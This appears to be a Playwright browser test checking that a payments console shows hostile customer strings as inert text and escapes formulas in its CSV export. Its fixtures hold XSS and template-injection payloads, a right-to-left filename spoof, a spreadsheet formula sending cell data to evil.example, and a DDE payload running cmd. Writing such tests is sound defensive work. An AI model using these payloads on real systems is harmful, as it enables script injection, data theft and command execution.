import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import { expect } from 'chai'
import type { Browser, Page } from 'playwright-core'
import { chromiumPath, openChromium, reportMissingChromium } from '../../support/chromium.ts'
import { eventually } from '../../support/eventually.ts'
import { visit, type Visitor } from './consolePage.ts'
import { type DemoService, demoService } from './demoData.ts'

/** Texts of callers that are markup, formulas, marks of direction or very long: everywhere they are shown as texts. */

const TEXTS = {
  markup: '<img src=x onerror="window.hacked = true"><script>window.hacked = true</script>',
  template: '${window.hacked = true}{{constructor.constructor("window.hacked = true")()}}',
  direction: '\u202Egnp.exe\u2066 \u2067 abc',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: '+1+1',
  quote: '"><svg onload=window.hacked=true>',
  long: 'W'.repeat(500),
} as const

if (chromiumPath === undefined) reportMissingChromium('hostile texts at the console')
else
  describe('browser: hostile texts at the console', () => {
    let service: DemoService
    let browser: Browser
    let visitor: Visitor
    let page: Page
    const ids = new Map<string, { order: string; payment: string }>()

    const payWith = async (text: string): Promise<void> => {
      const { client } = service
      const lines = [{ sku: text, description: text, quantity: 1, unit_amount: 100 }]
      const order = await client.post('/orders', {
        ...{ currency: 'USD', customer_reference: text, description: text, lines, metadata: { note: text } },
      })
      const invoice = await client.post('/invoices', { order_id: order.body.id })
      const path = `/invoices/${invoice.body.id}`
      await client.post(`${path}:approve`, { reason: text }, { 'if-match': invoice.headers.get('etag') ?? '' })
      const payment = await client.post(
        '/payments',
        { invoice_id: invoice.body.id, amount: 100, currency: 'USD', reference: text },
        { 'idempotency-key': crypto.randomUUID() },
      )
      expect(payment.status, payment.text).to.equal(201)
      ids.set(text, { order: order.body.id, payment: payment.body.id })
    }

    before(async () => {
      ;[service, browser] = await Promise.all([demoService(), openChromium()])
      for (const text of Object.values(TEXTS)) await payWith(text)
      const last = [...ids.values()].at(-1)?.payment
      await eventually(async () => (await service.client.get('/payments')).body.items[0].id === last)
      visitor = await visit(browser, service, { as: 'dana' })
      ;({ page } = visitor)
      await visitor.open('/console')
    })
    after(async () => {
      await visitor?.context.close()
      await browser?.close()
    })

    afterEach(async () => {
      expect(await page.evaluate('window.hacked')).to.equal(undefined)
      expect(await page.locator('main img, main script').count()).to.equal(0)
      expect(visitor.complaints).to.deep.equal([])
      expect(
        await page.evaluate('document.documentElement.scrollWidth <= document.documentElement.clientWidth'),
      ).to.equal(true)
    })

    for (const [kind, text] of Object.entries(TEXTS))
      it(`are texts in a case and in the search: ${kind}`, async () => {
        const { order = '', payment = '' } = ids.get(text) ?? {}
        await page.goto(`${service.api}/console/case/${order}`)
        await page.locator('.timeline li').first().waitFor()
        const shown = await page.locator('bdi.text').allTextContents()
        expect(shown.filter(one => one === text || one === `“${text}”`)).to.have.length.of.at.least(3)
        await page.getByText('Raw JSON').first().click()
        expect(await page.locator('details[open] pre').first().textContent()).to.include(
          JSON.stringify(text).slice(1, -1),
        )
        await page.getByRole('searchbox').fill(text)
        await page.getByRole('searchbox').press('Enter')
        await page.getByRole('heading', { name: 'What the customer owes' }).waitFor()
        expect(await page.getByRole('heading', { level: 1 }).locator('bdi').textContent()).to.equal(text)
        expect(await page.locator('main p bdi').allTextContents()).to.include(text)
        await page.getByRole('link', { name: payment }).waitFor()
      })

    it('are texts in the list, and cells without a formula in its CSV file', async () => {
      await page.goto(`${service.api}/console/case/payments`)
      await page.getByRole('table').waitFor()
      const shown = await page.locator('td[data-label="Reference"] bdi').allTextContents()
      for (const text of Object.values(TEXTS)) expect(shown).to.include(text)
      const download = page.waitForEvent('download')
      await page.getByRole('button', { name: 'CSV' }).click()
      const rows = parse(await readFile(await (await download).path(), 'utf8'), { columns: true }) as Record<
        string,
        string
      >[]
      const cells = new Map(rows.map(row => [row['Payment'], row['Reference']]))
      const isCalculated = /^[=+@]/
      for (const text of Object.values(TEXTS))
        expect(cells.get(ids.get(text)?.payment)).to.equal(isCalculated.test(text) ? `'${text}` : text)
    })

    it('are texts in the books, in the facts and in a filter', async () => {
      await page.goto(`${service.api}/console/money`)
      await page.locator('tfoot').waitFor()
      const customers = await page.locator('td[data-label="Customer"] bdi').allTextContents()
      for (const text of Object.values(TEXTS)) expect(customers).to.include(text)
      await page.goto(`${service.api}/console/facts`)
      await page.locator('.timeline summary').first().waitFor()
      await page.goto(
        `${service.api}/console/case/payments?${new URLSearchParams({ reference: TEXTS.markup }).toString()}`,
      )
      await page.getByRole('table').waitFor()
      expect(await page.getByLabel('Reference', { exact: true }).inputValue()).to.equal(TEXTS.markup)
      expect(await page.getByRole('row').count()).to.equal(2)
    })
  })
